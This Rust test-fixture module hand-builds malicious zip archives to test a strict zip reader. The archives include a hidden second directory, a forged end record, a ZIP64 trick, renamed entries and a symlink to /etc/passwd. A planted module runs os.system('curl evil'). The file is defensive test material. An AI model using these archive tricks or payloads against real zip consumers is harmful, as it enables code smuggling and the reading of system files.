//! Zips made by hand, byte by byte, as an attacker makes them: every field is the test's choice, which no zip
//! library allows. The archives of issue 11 are built here, each aimed at one rule of the strict reading.

/// One entry: stored (its data is its content), with the fields an attack plays with.
#[derive(Debug, Clone)]
pub struct Entry {
    /// The name in the central directory.
    pub name: String,
    /// The name in the local header, when it differs.
    pub local_name: Option<String>,
    pub data: Vec<u8>,
    /// Unix `st_mode`, stored in the external attributes' high half.
    pub mode: u32,
    pub central_extra: Vec<u8>,
}

pub fn file(name: &str, data: &[u8]) -> Entry {
    Entry {
        name: name.to_owned(),
        local_name: None,
        data: data.to_vec(),
        mode: 0o100_644,
        central_extra: Vec::new(),
    }
}

const SIG_LOCAL: u32 = 0x0403_4b50;
const SIG_CENTRAL: u32 = 0x0201_4b50;
const SIG_EOCD: u32 = 0x0605_4b50;
const SIG_ZIP64_EOCD: u32 = 0x0606_4b50;
const SIG_ZIP64_LOCATOR: u32 = 0x0706_4b50;

/// The local records and the central directory of `entries`, the first local record at `start`.
pub struct Parts {
    pub locals: Vec<u8>,
    pub central: Vec<u8>,
    pub count: u16,
}

pub fn parts(entries: &[Entry], start: u32) -> Parts {
    let mut locals = Vec::new();
    let mut central = Vec::new();
    for e in entries {
        let crc = crc32fast::hash(&e.data);
        let offset = start + locals.len() as u32;
        let local_name = e.local_name.as_deref().unwrap_or(&e.name);
        locals.extend(SIG_LOCAL.to_le_bytes());
        locals.extend(20u16.to_le_bytes()); // version needed
        locals.extend(0u16.to_le_bytes()); // flags
        locals.extend(0u16.to_le_bytes()); // stored
        locals.extend([0u8, 0, 0x21, 0]); // 1980-01-01 00:00
        locals.extend(crc.to_le_bytes());
        locals.extend((e.data.len() as u32).to_le_bytes());
        locals.extend((e.data.len() as u32).to_le_bytes());
        locals.extend((local_name.len() as u16).to_le_bytes());
        locals.extend(0u16.to_le_bytes());
        locals.extend(local_name.as_bytes());
        locals.extend(&e.data);

        central.extend(SIG_CENTRAL.to_le_bytes());
        central.extend((3u16 << 8 | 20).to_le_bytes()); // made by Unix
        central.extend(20u16.to_le_bytes());
        central.extend(0u16.to_le_bytes());
        central.extend(0u16.to_le_bytes());
        central.extend([0u8, 0, 0x21, 0]);
        central.extend(crc.to_le_bytes());
        central.extend((e.data.len() as u32).to_le_bytes());
        central.extend((e.data.len() as u32).to_le_bytes());
        central.extend((e.name.len() as u16).to_le_bytes());
        central.extend((e.central_extra.len() as u16).to_le_bytes());
        central.extend([0u8; 6]); // comment length, disk, internal attributes
        central.extend((e.mode << 16).to_le_bytes());
        central.extend(offset.to_le_bytes());
        central.extend(e.name.as_bytes());
        central.extend(&e.central_extra);
    }
    Parts {
        locals,
        central,
        count: entries.len() as u16,
    }
}

/// A classic end record.
pub fn eocd(count: u16, cd_size: u32, cd_offset: u32, comment: &[u8]) -> Vec<u8> {
    let mut out = SIG_EOCD.to_le_bytes().to_vec();
    out.extend([0u8; 4]);
    out.extend(count.to_le_bytes());
    out.extend(count.to_le_bytes());
    out.extend(cd_size.to_le_bytes());
    out.extend(cd_offset.to_le_bytes());
    out.extend((comment.len() as u16).to_le_bytes());
    out.extend(comment);
    out
}

/// A well-formed zip of `entries`.
pub fn zip(entries: &[Entry]) -> Vec<u8> {
    let p = parts(entries, 0);
    let mut out = p.locals.clone();
    out.extend(&p.central);
    out.extend(eocd(
        p.count,
        p.central.len() as u32,
        p.locals.len() as u32,
        b"",
    ));
    out
}

/// The content a reader of the hidden directory would find (a name as long as `ok`'s, so that the hidden
/// directory is as long as the declared one).
fn evil() -> Entry {
    file("python/ev.py", b"import os; os.system('curl evil')\n")
}

fn ok() -> Entry {
    file(
        "python/ok.py",
        b"print('ok')  # a module of a layer that is fine\n",
    )
}

/// The local records of ok and evil, the directory of ok alone, and the directory of evil alone with its
/// offset field at `evil_offset_shift` bytes before its record.
fn two_directories(evil_offset_shift: u32) -> (Vec<u8>, Vec<u8>, Vec<u8>) {
    let both = parts(&[ok(), evil()], 0);
    let ok_only = parts(&[ok()], 0);
    let ok_len = ok_only.locals.len() as u32;
    let evil_only = parts(&[evil()], ok_len - evil_offset_shift);
    (both.locals, ok_only.central, evil_only.central)
}

/// A second central directory hidden between the declared one and the end record. Python's zipfile and
/// Info-ZIP take the directory to end where the end record starts and read the hidden one, shifting every
/// offset by the difference (hence the shifted offset of its entry).
pub fn second_directory() -> Vec<u8> {
    let declared_len = parts(&[ok()], 0).central.len() as u32;
    let (locals, declared, hidden) = two_directories(declared_len);
    assert_eq!(hidden.len(), declared.len());
    let mut out = locals.clone();
    out.extend(&declared);
    out.extend(&hidden);
    out.extend(eocd(1, declared.len() as u32, locals.len() as u32, b""));
    out
}

/// An end record faked inside the archive comment: the real record's comment holds a second directory and an
/// end record pointing to it, which a reader scanning backwards (Python's zipfile, Info-ZIP) takes for the real
/// one.
pub fn end_record_in_comment() -> Vec<u8> {
    let (locals, declared, hidden) = two_directories(0);
    let mut out = locals.clone();
    out.extend(&declared);
    let real_at = out.len();
    let hidden_at = (real_at + 22) as u32;
    let mut comment = hidden.clone();
    comment.extend(eocd(1, hidden.len() as u32, hidden_at, b""));
    out.extend(eocd(
        1,
        declared.len() as u32,
        locals.len() as u32,
        &comment,
    ));
    out
}

/// A ZIP64 locator although no classic field is saturated, pointing at a ZIP64 end record for another
/// directory: readers that honour ZIP64 records (Python's zipfile) read the other one, others the declared one.
pub fn needless_zip64() -> Vec<u8> {
    let (locals, declared, hidden) = two_directories(0);
    let mut out = locals.clone();
    let declared_at = out.len() as u32;
    out.extend(&declared);
    let hidden_at = out.len() as u64;
    out.extend(&hidden);
    let record_at = out.len() as u64;
    out.extend(SIG_ZIP64_EOCD.to_le_bytes());
    out.extend(44u64.to_le_bytes());
    out.extend((3u16 << 8 | 45).to_le_bytes());
    out.extend(45u16.to_le_bytes());
    out.extend([0u8; 8]); // disks
    out.extend(1u64.to_le_bytes());
    out.extend(1u64.to_le_bytes());
    out.extend((hidden.len() as u64).to_le_bytes());
    out.extend(hidden_at.to_le_bytes());
    out.extend(SIG_ZIP64_LOCATOR.to_le_bytes());
    out.extend(0u32.to_le_bytes());
    out.extend(record_at.to_le_bytes());
    out.extend(1u32.to_le_bytes());
    out.extend(eocd(1, declared.len() as u32, declared_at, b""));
    out
}

/// An Info-ZIP Unicode Path extra field naming `nodejs/evil.js` for the entry called `python/ok.py`.
pub fn unicode_path_rename() -> Vec<u8> {
    let mut entry = ok();
    let mut body = vec![1u8]; // version
    body.extend(crc32fast::hash(entry.name.as_bytes()).to_le_bytes());
    body.extend(b"nodejs/evil.js");
    entry.central_extra = 0x7075u16.to_le_bytes().to_vec();
    entry
        .central_extra
        .extend((body.len() as u16).to_le_bytes());
    entry.central_extra.extend(body);
    zip(&[entry])
}

/// A local header naming another file (of the same length) than the central directory.
pub fn local_name_differs() -> Vec<u8> {
    let mut entry = ok();
    entry.local_name = Some("python/ev.py".to_owned());
    zip(&[file("python/a.py", b"a = 1\n"), entry])
}

/// A symlink entry pointing out of the layer.
pub fn symlink_out() -> Vec<u8> {
    let mut link = file("python/passwd", b"../../../../etc/passwd");
    link.mode = 0o120_777;
    zip(&[ok(), link])
}

/// A path that is both a file and a directory.
pub fn file_and_directory() -> Vec<u8> {
    zip(&[
        file("python/pkg", b"not a folder\n"),
        file("python/pkg/mod.py", b"x = 1\n"),
    ])
}

/// The issue's archives, each with the code of the rule that refuses it.
pub fn issue_archives() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    vec![
        (
            "second-directory",
            second_directory(),
            "data-after-central-directory",
        ),
        (
            "end-record-in-comment",
            end_record_in_comment(),
            "end-record-in-comment",
        ),
        ("needless-zip64", needless_zip64(), "needless-zip64"),
        (
            "unicode-path",
            unicode_path_rename(),
            "renaming-extra-field",
        ),
        ("local-name", local_name_differs(), "local-header-mismatch"),
        ("symlink", symlink_out(), "symlink-entry"),
        (
            "file-and-directory",
            file_and_directory(),
            "file-and-directory",
        ),
    ]
}
